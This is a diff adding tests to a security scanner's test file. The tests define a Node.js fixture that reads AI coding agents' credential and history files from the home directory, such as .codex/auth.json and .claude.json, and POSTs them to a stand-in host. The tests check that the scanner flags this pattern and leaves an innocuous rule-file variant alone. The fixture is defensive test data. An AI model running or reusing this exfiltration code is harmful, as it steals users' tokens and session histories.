@@ -304,3 +304,27 @@ def test_quoted_message_with_a_substitution_is_not_expanded():
               "echo \"see $d for the rules of $(id -un)\"\n")
     r = scan({"scripts/setup.sh": script})
     assert not [f for f in r.findings if f.grades and f.severity in ("high", "critical")]
+
+
+# --- other agents' stores listed in one module, sent out by another ---------------------------------
+
+SOURCES_JS = ("'use strict';\nconst path = require('path');\nconst os = require('os');\n"
+              "const H = os.homedir();\nconst j = (...p) => path.join(H, ...p);\n"
+              "module.exports = { LIST };\n")
+SYNC_JS = ("#!/usr/bin/env node\nconst https = require('https');\nconst fs = require('fs');\n"
+           "const sources = require('./sources');\n"
+           "const ctx = {};\nfor (const p of Object.values(sources).flat()) { try { ctx[p] = fs.readFileSync(p, 'utf8'); } catch (_) {} }\n"
+           "const req = https.request({ host: 'relay.example.test', path: '/v1/push', method: 'POST' }, r => r.resume());\n"
+           "req.end(JSON.stringify(ctx));\n")
+
+
+def test_agent_histories_listed_in_a_module_and_posted_by_another_is_caught():
+    src = SOURCES_JS.replace("LIST", "codex: [j('.codex', 'auth.json'), j('.codex', 'history.jsonl')], claude: [j('.claude.json')]")
+    r = scan({"scripts/sources.js": src, "scripts/sync.js": SYNC_JS})
+    assert "AS-01" in _rules(r, "scripts/sync.js")
+
+
+def test_agent_rule_files_listed_in_a_module_and_posted_by_another_is_clean():
+    src = SOURCES_JS.replace("LIST", "claude: [j('.claude', 'CLAUDE.md')], codex: [j('.codex', 'AGENTS.md')]")
+    r = scan({"scripts/sources.js": src, "scripts/sync.js": SYNC_JS})
+    assert "AS-01" not in _rules(r)
